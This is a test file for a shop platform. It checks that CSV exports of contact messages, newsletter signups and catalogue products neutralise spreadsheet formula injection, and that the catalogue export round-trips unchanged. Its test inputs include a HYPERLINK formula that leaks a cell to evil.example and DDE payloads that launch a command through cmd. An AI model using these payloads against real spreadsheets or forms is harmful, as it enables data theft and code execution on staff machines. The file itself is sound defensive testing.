/**
 * The CSV files staff open in a spreadsheet (issue 43): what anonymous visitors type into the
 * contact and newsletter forms, and what a product file holds, comes out of every export with a
 * quote before a leading `=`, `+`, `-`, `@`, tab or carriage return, so no cell is a formula; and
 * the catalogue's own export reads back unchanged (a product whose fields start with `-` or `=`).
 */
import type { TestApi } from '@clubshop/commerce-api/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { exportCatalogue } from '../src/catalogue-io/export-catalogue.ts';
import { type ImportSite, importCatalogue } from '../src/catalogue-io/import-catalogue.ts';
import { jsonInit } from './contract.ts';
import { apiWithNewShop } from './support/new-shop.ts';

vi.setConfig({ testTimeout: 120_000 });

const host = 'shop.csv.example';
const owner = { email: 'owner@csv.example', password: 'owner password 1' };
const actor = { name: 'test' };
const link = '=HYPERLINK("https://evil.example/?"&A1,"Klik her")';
let api: TestApi;
let site: ImportSite;
let token: string;

/** Every cell a spreadsheet would run as a formula (OWASP's first characters). */
const formulas = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

async function csvOf(path: string): Promise<string[][]> {
  const response = await api.fetch(`/admin/api/sites/${site.storeId}/${path}?format=csv`, {
    headers: { Authorization: `Bearer ${token}` },
  });
  expect(response.status).toBe(200);
  return parse(await response.text()) as string[][];
}

beforeAll(async () => {
  ({ api, site } = await apiWithNewShop({
    host,
    name: 'Regnark BK',
    owner: owner.email,
    password: owner.password,
  }));
  const answer = await api.fetch(
    '/admin/api/auth/token',
    jsonInit('POST', { grant_type: 'password', username: owner.email, password: owner.password }),
  );
  token = ((await answer.json()) as { access_token: string }).access_token;
}, 180_000);
afterAll(() => api?.close());

describe('CSV exports for spreadsheets', () => {
  it('neutralise what anonymous visitors typed into the contact form and the newsletter signup', async () => {
    const sent = await api.fetch(
      `http://${host}/api/customerservice`,
      jsonInit('POST', {
        name: link,
        email: 'visitor@example.com',
        subject: '@SUM(1+1)*cmd|" /C calc"!A0',
        message: '-2+3+cmd|" /C calc"!A0',
      }),
    );
    expect(sent.status).toBe(200);
    const signup = await api.fetch(
      `http://${host}/api/users/newsletter/club-news`,
      jsonInit('POST', { email: 'fan@example.com', firstName: '+cmd|" /C calc"!A0', termsId: 'terms' }),
    );
    expect(signup.status).toBe(200);

    const messages = await csvOf('contact-messages');
    expect(formulas(messages)).toEqual([]);
    const header = messages[0] as string[];
    const row = messages[1] as string[];
    expect(row[header.indexOf('name')]).toBe(`'${link}`);
    expect(row[header.indexOf('subject')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(row[header.indexOf('message')]).toBe(`'-2+3+cmd|" /C calc"!A0`);

    const signups = await csvOf('newsletter-signups');
    expect(formulas(signups)).toEqual([]);
    expect(signups[1]?.[(signups[0] as string[]).indexOf('firstName')]).toBe(`'+cmd|" /C calc"!A0`);
  });

  it('neutralise product fields in the catalogue export, which still reads back unchanged', async () => {
    const file = [
      'Handle,Title,Body (HTML),Vendor,Type,Tags,Published,Variant SKU,Variant Price,Variant Inventory Qty',
      `rabat-troje,"${link.replaceAll('"', '""')}",-20 % på hele sortimentet,@regnark,Trøjer,"-udsalg, =1+1",true,RB-1,199.00,5`,
    ].join('\n');
    const imported = await importCatalogue(
      api.deps.db,
      actor,
      new Date(),
      site,
      { text: file, format: 'csv' },
      {
        dryRun: false,
      },
    );
    expect(imported).toMatchObject({ created: 1, bad: [] });

    const csv = await exportCatalogue(api.deps.db, site, 'csv');
    const rows = parse(csv) as string[][];
    expect(formulas(rows)).toEqual([]);
    const header = rows[0] as string[];
    const product = rows.find((row) => row[0] === 'rabat-troje') as string[];
    expect(product[header.indexOf('Title')]).toBe(`'${link}`);
    expect(product[header.indexOf('Body (HTML)')]).toBe("'-20 % på hele sortimentet");
    expect(product[header.indexOf('Vendor')]).toBe("'@regnark");

    // The shop's own export reads back as the product it was: nothing changes, nothing gains a quote.
    const again = await importCatalogue(
      api.deps.db,
      actor,
      new Date(),
      site,
      { text: csv, format: 'csv' },
      {
        dryRun: false,
      },
    );
    expect(again).toMatchObject({ bad: [], created: 0, updated: 0 });
    expect(await exportCatalogue(api.deps.db, site, 'csv')).toBe(csv);
    const json = JSON.parse(await exportCatalogue(api.deps.db, site, 'json')) as {
      products: Array<{ handle: string; name: Record<string, string>; description: Record<string, string> }>;
    };
    const stored = json.products.find((candidate) => candidate.handle === 'rabat-troje');
    expect(stored?.name.da).toBe(link);
    expect(stored?.description.da).toBe('-20 % på hele sortimentet');
  });
});
